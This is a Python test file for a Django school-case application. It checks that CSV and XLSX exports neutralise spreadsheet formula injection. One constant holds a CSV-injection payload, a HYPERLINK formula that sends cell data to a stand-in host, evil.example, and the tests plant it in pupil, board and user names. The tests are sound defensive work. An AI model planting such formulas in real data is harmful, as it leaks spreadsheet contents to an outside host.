"""Exports never hand a spreadsheet a live formula: text starting with = + - @ (or a tab or CR) is
neutralised by the one export helper (reports/exports.py) in every export, CSV and XLSX alike. A school
or pupil named `=HYPERLINK(...)` comes out as that text."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases import clock
from cases.models import Bestuur
from reports.exports import csv_cell, csv_response, xlsx_response
from tests import thuiszitter_steps

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"klik")'


def _csv_cells(response):
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _xlsx_cells(response):
    wb = load_workbook(io.BytesIO(response.content))
    return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", EVIL])
def test_csv_cells_that_would_be_formulas_get_an_apostrophe(text):
    assert csv_cell(text) == "'" + text
    assert _csv_cells(csv_response("x", [[text]])) == ["'" + text]


def test_ordinary_text_and_numbers_are_unchanged():
    assert [csv_cell(v) for v in ("De Esch", "a=b", -3, 2.5, None)] == ["De Esch", "a=b", -3, 2.5, None]


def test_xlsx_stores_formula_text_as_text_and_drops_control_characters():
    cells = _xlsx_cells(xlsx_response("x", [("Blad", [[EVIL, "+31 6", -3, "a\x00b\x0bc"]])]))
    assert cells == [(EVIL, "s"), ("+31 6", "s"), (-3, "n"), ("abc", "s")]


def _no_live_formula(csv_resp, xlsx_resp):
    csv_cells = _csv_cells(csv_resp)
    assert any(c.startswith("'" + EVIL) for c in csv_cells)
    assert not any(c.startswith("=") for c in csv_cells)
    xlsx = _xlsx_cells(xlsx_resp)
    assert any(isinstance(v, str) and v.startswith(EVIL) and kind == "s" for v, kind in xlsx)
    assert all(kind != "f" for _value, kind in xlsx)


def test_tlv_register_exports_a_pupil_named_as_a_formula_as_text(client, world, steps):
    world.leerling_a.voornaam = EVIL
    world.leerling_a.save()
    steps.bekendgemaakt(world)
    client.force_login(world.consulent)
    url = reverse("tlv_register")
    _no_live_formula(client.get(url, {"export": "csv"}), client.get(url, {"export": "xlsx"}))


def test_thuiszitter_count_exports_a_board_named_as_a_formula_as_text(client, world):
    thuiszitter_steps.gemeld(world, days_ago=60)
    Bestuur.objects.filter(swv=world.swv).update(name=EVIL)
    client.force_login(world.consulent)
    url = reverse("thuiszitter_count")
    params = {"peildatum": clock.today().isoformat()}
    _no_live_formula(
        client.get(url, {**params, "format": "csv"}), client.get(url, {**params, "format": "xlsx"})
    )


def test_the_auditors_timeline_export_writes_a_formula_reason_as_text(client, world, steps):
    from cases.services import tlv

    world.school_user.first_name = EVIL
    world.school_user.save()
    a = steps.concept(world)
    tlv.aanvraag_withdraw(aanvraag=a, by=world.school_user, reason=EVIL)
    client.force_login(world.auditor)
    response = client.get(reverse("audit_case_timeline", args=[a.case_id]), {"format": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.startswith("=") for c in cells)
